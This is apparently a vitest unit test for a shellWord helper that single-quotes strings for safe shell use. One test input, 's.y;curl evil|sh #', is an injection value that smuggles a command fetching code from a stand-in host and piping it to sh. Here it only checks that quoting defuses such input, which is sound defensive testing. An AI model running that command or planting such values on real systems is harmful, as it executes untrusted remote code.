import { describe, expect, it } from 'vitest';
import { shellWord } from './shell-word.ts';

describe('shellWord', () => {
  it.each([
    ['a=b/c.d', 'a=b/c.d'],
    ['a b', "'a b'"],
    ["it's", String.raw`'it'\''s'`],
    ['$HOME', "'$HOME'"],
    ['', "''"],
    ['s.y;curl evil|sh #', "'s.y;curl evil|sh #'"],
    ['~/x', "'~/x'"],
    ['a\nb', "'a\nb'"],
  ])('%s', (word, quoted) => expect(shellWord(word)).toBe(quoted));
});
